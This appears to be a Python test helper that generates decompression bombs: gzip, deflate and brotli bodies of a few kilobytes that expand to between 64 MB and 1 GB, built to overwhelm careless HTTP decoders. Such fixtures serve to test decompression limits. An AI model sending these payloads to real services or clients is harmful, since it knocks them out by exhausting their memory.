"""Bodies packed to do harm: a few bytes that grow to a gigabyte in a careless reader."""

import gzip
import struct
import zlib
from functools import lru_cache

import brotli

CHUNK = 1 << 20
GIGABYTE = 1 << 30


@lru_cache
def gzip_bomb() -> bytes:
    """Pack a gigabyte of nothing twice over: about 2 KB to send as `gzip, gzip`."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = packer.compress(bytes(CHUNK)) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = 0
    for _ in range(GIGABYTE // CHUNK):
        checksum = zlib.crc32(bytes(CHUNK), checksum)
    end = b"\x03\x00" + struct.pack("<II", checksum, GIGABYTE & 0xFFFFFFFF)
    head = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return gzip.compress(head + block * (GIGABYTE // CHUNK) + end, 9, mtime=0)


@lru_cache
def deflate_bomb() -> bytes:
    """Pack 64 MB of nothing, to send as `deflate`."""
    return zlib.compress(bytes(64 * CHUNK), 9)


@lru_cache
def brotli_bomb() -> bytes:
    """Pack 256 MB of nothing, to send as `br`."""
    packer = brotli.Compressor(quality=5)
    parts = [packer.process(bytes(CHUNK)) for _ in range(256)]
    return bytes(b"".join(parts) + packer.finish())
